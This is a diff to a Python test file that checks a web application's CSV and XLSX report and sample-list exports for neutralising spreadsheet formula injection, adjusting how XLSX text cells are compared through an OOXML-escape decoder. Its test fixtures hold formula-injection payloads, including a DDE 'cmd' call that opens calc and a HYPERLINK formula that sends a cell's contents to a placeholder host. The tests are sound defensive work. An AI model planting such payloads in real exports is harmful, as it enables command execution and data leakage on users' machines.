@@ -15,7 +15,6 @@ EVIL = '=HYPERLINK("http://example.invalid/?x="&A1,"点击")'
 # The payloads of the review: "+" or "-" before a digit used to pass as a phone or a negative number.
 PAYLOADS = ["-2+3+cmd|' /C calc'!A0", '+1+HYPERLINK("http://example.invalid","x")', "=1+1", "@SUM(A1)",
             "\t=1+1", "\r=1+1"]
-XLSX_PAYLOADS = {p.replace("\r", "\n") for p in PAYLOADS}  # XML reads a carriage return back as a line feed
 
 
 @pytest.mark.parametrize("write_only", [False, True])
@@ -97,7 +96,7 @@ def test_every_report_csv_export_neutralises_formula_payloads(login_as, poisoned
         assert client.post(f"/reports/{cid}/rectification/generate", data={"due_days": "20"}).status_code < 400
     assert_neutralised(csv_cells(client.get(f"/reports/{cid}/export/{what}.csv")))
     cells = xlsx_cells(client.get(f"/reports/{cid}/export/{what}.xlsx"))
-    assert {c.value for c in cells if c.data_type == "s"} >= XLSX_PAYLOADS  # as typed, in text cells
+    assert {ooxml_text(c.value) for c in cells if c.data_type == "s"} >= set(PAYLOADS)  # as typed, in text cells
     assert not [c for c in cells if c.data_type == "f"]
 
 
@@ -108,12 +107,13 @@ def test_sample_list_csv_neutralises_formula_payloads_on_the_page_and_the_api(lo
     api = token_client("coordinator")
     assert_neutralised(csv_cells(api.get(f"/api/v1/draws/{draw_id}/export?format=csv")))
     cells = xlsx_cells(api.get(f"/api/v1/draws/{draw_id}/export?format=xlsx"))
-    # The sample list is written by the streaming writer, which keeps a carriage return as typed, in the
-    # OOXML escape _x000D_ that Excel and LibreOffice decode (openpyxl leaves it as written).
     assert {ooxml_text(c.value) for c in cells if c.data_type == "s"} >= set(PAYLOADS)
     assert not [c for c in cells if c.data_type == "f"]
 
 
 def ooxml_text(value: str) -> str:
-    """Decode the _xHHHH_ escapes of an OOXML string, as a spreadsheet program shows it."""
+    """Decode the _xHHHH_ escapes of an OOXML string, as a spreadsheet program shows it.
+
+    The exports' streaming writer keeps a carriage return as typed, in the escape _x000D_ that Excel and
+    LibreOffice decode; openpyxl, reading, leaves it as written."""
     return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), value)
